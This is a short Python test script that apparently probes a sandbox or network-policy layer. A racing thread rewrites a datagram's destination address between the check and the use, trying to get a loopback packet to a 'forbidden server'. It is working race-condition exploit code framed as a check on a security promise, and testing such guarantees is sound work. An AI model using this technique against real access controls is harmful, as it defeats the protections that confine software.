"""A thread rewrites the address of a datagram."""

import ctypes
import socket
import struct

from attack import FACTS, SECONDS, call, main
from race import Race, until_won

PROMISE = "the address that was judged is the address that is used"
CONTROL = "the forbidden server received it"
ADVICE = "report it: addresses are copied once"
WITNESS = "datagram"


def name(last: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H4B8x", FACTS["raced_port"], 127, 0, 0, last)


def attempt() -> bool:
    race = Race(name(1), name(2))
    race.by_thread()
    client = socket.socket(type=socket.SOCK_DGRAM)
    sent = [0]

    def send() -> bool:
        call("sendto", client.fileno(), b"raced", 5, 0, ctypes.c_void_p(race.address), 16)
        sent[0] += 1
        return False

    until_won(send)
    print(f"{sent[0]} sent in {SECONDS} s")
    return sent[0] > 0  # the witness knows who received


main(attempt)
